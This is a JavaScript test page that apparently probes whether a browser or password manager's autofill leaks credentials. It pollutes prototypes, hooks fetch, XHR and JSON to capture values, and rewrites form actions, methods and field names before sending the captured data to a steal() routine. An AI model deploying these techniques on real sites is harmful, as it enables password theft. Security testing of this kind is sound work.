// Changes everything around the fill: what the browser offers to scripts, and the form at the moment that it is sent.
const variant = new URLSearchParams(location.search).get("v");
for (const [name, value] of Object.entries({ selector: "textarea", name: "content", presses: true, waits: true, login: "x", notice: { text: "x" } })) {
  Object.defineProperty(Object.prototype, name, { value, writable: true, configurable: true });
}
const seen = [];
const wrap = (holder, name) => {
  const original = holder[name];
  holder[name] = function (...given) { seen.push(...given.map(String)); return original.apply(this, given); };
};
for (const [holder, name] of [[window, "fetch"], [XMLHttpRequest.prototype, "send"], [FormData.prototype, "append"], [URLSearchParams.prototype, "append"],
  [TextEncoder.prototype, "encode"], [JSON, "parse"], [JSON, "stringify"], [EventTarget.prototype, "dispatchEvent"], [Node.prototype, "appendChild"]]) wrap(holder, name);
const changes = {
  action: (form) => { form.action = "/store/refused/action"; },
  "action-inside": (form) => { form.action = `/store/refused/action-inside;/${attack}/login`; },
  method: (form) => { form.method = "get"; form.action = "/store/refused/method"; },
  enctype: (form) => { form.enctype = "text/plain"; },
  rename: (form) => { form.elements.password.name = "content"; },
  double: (form) => { form.append(form.elements.password.cloneNode()); form.lastChild.value = form.elements.password[0].value; },
  add: (form, dummy) => { form.insertAdjacentHTML("beforeend", `<input name="content" value="${dummy}">`); },
  swap: (form) => { [form.elements.username.name, form.elements.password.name] = ["password", "username"]; },
  button: (form) => { document.getElementById("go").setAttribute("formaction", "/store/refused/button"); },
};
addEventListener("load", async () => {
  const form = document.getElementById("f");
  if (variant) {
    new MutationObserver(() => seen.push(document.documentElement.outerHTML)).observe(document, { subtree: true, childList: true, attributes: true });
    const dummy = await dummyOf();
    changes[variant](form, dummy);
    form.requestSubmit(document.getElementById("go"));
    return;
  }
  holdForm();
  const dummy = await dummyOf();
  for (const name of Object.keys(changes)) {
    const frame = document.createElement("iframe");
    frame.src = `/${attack}/login?v=${name}`;
    document.body.append(frame);
    await Promise.race([pause(4000), until(() => attemptSync(() => frame.contentDocument.readyState === "complete" && !frame.contentDocument.getElementById("f") && frame.contentDocument.body.childElementCount))]);
    await steal(name, attemptSync(() => frame.contentDocument.documentElement.outerHTML + frame.contentWindow.seen));
    frame.remove();
  }
  await signIn(dummy);
  await steal("seen", seen.join("\n"));
  document.title = "done";
});
function attemptSync(act) { try { return act(); } catch { return ""; } }
